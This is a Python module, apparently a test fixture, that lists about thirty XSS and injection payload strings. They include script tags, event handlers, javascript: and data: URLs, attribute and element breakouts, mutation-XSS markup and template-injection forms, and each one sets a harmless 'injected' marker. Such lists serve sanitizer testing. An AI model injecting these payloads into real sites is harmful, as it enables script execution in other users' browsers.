"""Texts that would run as scripts wherever they were taken for markup, for an address, or for code."""

from typing import Final

_RUN: Final = "globalThis.injected=1"

PAYLOADS: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<a href=javascript:{_RUN}>click me</a>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"\tjavascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"'><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover={_RUN} x='",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre></code><img src=x onerror={_RUN}>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<object data=javascript:{_RUN}></object>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    f"<base href=javascript:{_RUN}//>",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"</script><script>{_RUN}</script>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"\u2028<img src=x onerror={_RUN}>\u2029",
)
